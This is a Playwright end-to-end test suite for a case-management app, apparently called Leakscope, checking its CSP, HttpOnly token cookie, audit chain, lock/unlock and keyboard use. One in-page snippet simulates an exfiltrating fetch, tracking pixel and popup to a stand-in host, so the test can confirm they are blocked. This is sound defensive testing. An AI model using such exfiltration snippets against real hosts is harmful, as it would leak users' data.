/**
 * The real UI in Debian's Chromium through the loopback bridge (the Electron binary cannot run
 * here): open the token URL, create a case through the form, read its description, verify the
 * audit chain, lock and unlock; and throughout, check that the page never reaches outside the
 * bridge origin, that the CSP is sent and holds, and that the token never becomes readable.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Bridge } from '../../src/main/web';
import { newEngine, startHarness, type Harness } from './harness';

const PASSPHRASE = 'correct horse battery staple';

/**
 * Code run inside the page, as strings: this file is type-checked without DOM types
 * (tsconfig.node.json), and a `lib="dom"` reference would leak DOM globals into the type-check of
 * the main process.
 */
const IN_PAGE = {
  cookies: 'document.cookie',
  focused: `(() => {
    const el = document.activeElement;
    return { tag: el.tagName, text: el.textContent, outline: getComputedStyle(el).outlineStyle };
  })()`,
  activeClass: 'document.activeElement?.className',
  activeId: 'document.activeElement?.id',
  /** A popup, an exfiltrating fetch, a tracking pixel, a target=_blank link. */
  tryToLeave: `(async () => {
    const popup = window.open('http://example.invalid/popup');
    let fetched = 'sent';
    try {
      await fetch('http://example.invalid/exfiltrate', { method: 'POST', body: 'x' });
    } catch {
      fetched = 'refused';
    }
    const img = document.createElement('img');
    img.setAttribute('src', 'http://example.invalid/pixel.png');
    document.body.appendChild(img);
    const link = document.createElement('a');
    link.setAttribute('href', 'http://example.invalid/tab');
    link.setAttribute('target', '_blank');
    document.body.appendChild(link);
    link.click();
    await new Promise((r) => setTimeout(r, 300));
    return { popup: popup === null, fetched };
  })()`,
};

let work: string;
let h: Harness;
let bridge: Bridge;
let context: BrowserContext;
let page: Page;

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'leakscope-e2e-'));
  h = await startHarness(newEngine(), join(work, 'profile'));
  ({ bridge, context, page } = h);
});

afterAll(async () => {
  await h?.close();
  rmSync(work, { recursive: true, force: true });
});

describe('Leakscope in a browser through the bridge', () => {
  it('trades the token URL for a cookie, serves the UI with its CSP, and hides the token', async () => {
    const response = await page.goto(bridge.url);
    expect(response?.status()).toBe(200);
    expect(page.url()).toBe(`${bridge.origin}/`);
    const csp = response?.headers()['content-security-policy'] ?? '';
    expect(csp).toContain("default-src 'self'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toMatch(/unsafe-eval|unsafe-inline/);
    const meta = await page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute('content');
    expect(meta).toContain("default-src 'self'");

    const [cookie] = await context.cookies(bridge.origin);
    expect(cookie).toMatchObject({ name: bridge.cookieName, httpOnly: true, sameSite: 'Strict' });
    expect(await page.evaluate<string>(IN_PAGE.cookies)).toBe('');
    expect(await page.content()).not.toContain(bridge.token);
    await expect
      .poll(() => page.getByRole('heading', { level: 1 }).textContent())
      .toBe('Choose a case');
    await h.shot('case-chooser');
  });

  it('creates a case through the form and shows its description', async () => {
    const casePath = join(work, 'enquete-e2e.lscase');
    const form = page.getByRole('form', { name: 'New case' });
    await form.getByLabel('Case file').fill(casePath);
    await form.getByLabel('Passphrase', { exact: true }).fill(PASSPHRASE);
    await expect.poll(() => form.getByTestId('strength-label').textContent()).toBe('very strong');
    await form.getByLabel('Repeat the passphrase').fill(PASSPHRASE);
    await form.getByRole('button', { name: 'Create case' }).click();

    const info = page.getByTestId('case-info');
    await info.waitFor();
    expect(await info.locator('[data-field="path"]').textContent()).toBe(casePath);
    expect(await info.locator('[data-field="case-id"]').textContent()).toMatch(/^[0-9a-f-]{36}$/);
    expect(await info.locator('[data-field="cipher"]').textContent()).toMatch(
      /^sqlcipher v4, PBKDF2/,
    );
    expect(await info.locator('[data-field="datasets"]').textContent()).toBe('0');
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('enquete-e2e.lscase');
    await page.locator('.audit-table').getByText('case.create').waitFor();
  });

  it('verifies the audit chain as intact', async () => {
    await page.getByRole('button', { name: 'Verify chain' }).click();
    const status = page.getByTestId('audit-status');
    await expect.poll(() => status.textContent()).toBe('Intact: 1 entry verified.');
    await page.locator('.audit-table').getByText('audit.verify').waitFor();
    await expect
      .poll(() =>
        page.getByTestId('case-info').locator('[data-field="audit-entries"]').textContent(),
      )
      .toBe('2');
    await h.shot('case-overview-light');
    await page.emulateMedia({ colorScheme: 'dark' });
    await h.shot('case-overview-dark');
    await page.emulateMedia({ colorScheme: 'light' });
  });

  it('locks the case and unlocks it with the passphrase', async () => {
    await page.getByRole('button', { name: 'Lock case' }).click();
    await expect
      .poll(() => page.getByRole('heading', { level: 1 }).textContent())
      .toBe('Choose a case');
    expect(await page.getByRole('status').first().textContent()).toBe('The case is locked.');
    const open = page.getByRole('form', { name: 'Open a case' });
    await open.getByLabel('Case file').fill(join(work, 'enquete-e2e.lscase'));
    await open.getByLabel('Passphrase').fill('not the passphrase');
    await open.getByRole('button', { name: 'Open case' }).click();
    await expect.poll(() => open.getByRole('alert').textContent()).toMatch(/wrong passphrase/);
    await open.getByLabel('Passphrase').fill(PASSPHRASE);
    await open.getByRole('button', { name: 'Open case' }).click();
    await page.getByTestId('case-info').waitFor();
  });

  it('is keyboard usable: a skip link, then the controls, with a visible focus ring', async () => {
    const skip = page.locator('.skip-link');
    await skip.focus();
    expect((await skip.boundingBox())?.y).toBeGreaterThanOrEqual(0);
    await page.keyboard.press('Tab');
    const focused = await page.evaluate<unknown>(IN_PAGE.focused);
    expect(focused).toEqual({ tag: 'BUTTON', text: 'Other case…', outline: 'solid' });
    await page.keyboard.press('Shift+Tab');
    expect(await page.evaluate<string>(IN_PAGE.activeClass)).toBe('skip-link');
    await page.keyboard.press('Enter');
    expect(await page.evaluate<string>(IN_PAGE.activeId)).toBe('main');
  });

  it('made no request outside the bridge origin, and the CSP was never violated', () => {
    h.expectStayedInside(4);
  });

  it('blocks popups and external loads attempted from the page', async () => {
    const { requested, blocked, refusedByBrowser, cspViolations } = h;
    const before = requested.length;
    const outcome = await page.evaluate<unknown>(IN_PAGE.tryToLeave);
    // CSP `sandbox` without allow-popups: no new window at all; connect-src/img-src 'self'.
    expect(outcome).toEqual({ popup: true, fetched: 'refused' });
    expect(context.pages()).toHaveLength(1);
    // Nothing reached the network layer (the route gate saw nothing); the only outside URL
    // Chromium even considered, the image, was refused by the CSP before any connection.
    expect(blocked).toEqual([]);
    const outside = requested.slice(before).filter((u) => !u.startsWith(`${bridge.origin}/`));
    expect(outside.every((u) => refusedByBrowser.includes(u))).toBe(true);
    expect(cspViolations.some((v) => v.includes('connect-src'))).toBe(true);
    expect(cspViolations.some((v) => v.includes('img-src'))).toBe(true);
  });

  it('refuses a browser that lacks the token', async () => {
    const other = await context.browser()?.newContext();
    const fresh = other ? await other.newPage() : await context.newPage();
    await context.clearCookies();
    const r = await fresh.goto(`${bridge.origin}/`);
    expect(r?.status()).toBe(401);
    expect(await fresh.content()).not.toContain('id="root"');
    await fresh.close();
    await other?.close();
  });
});
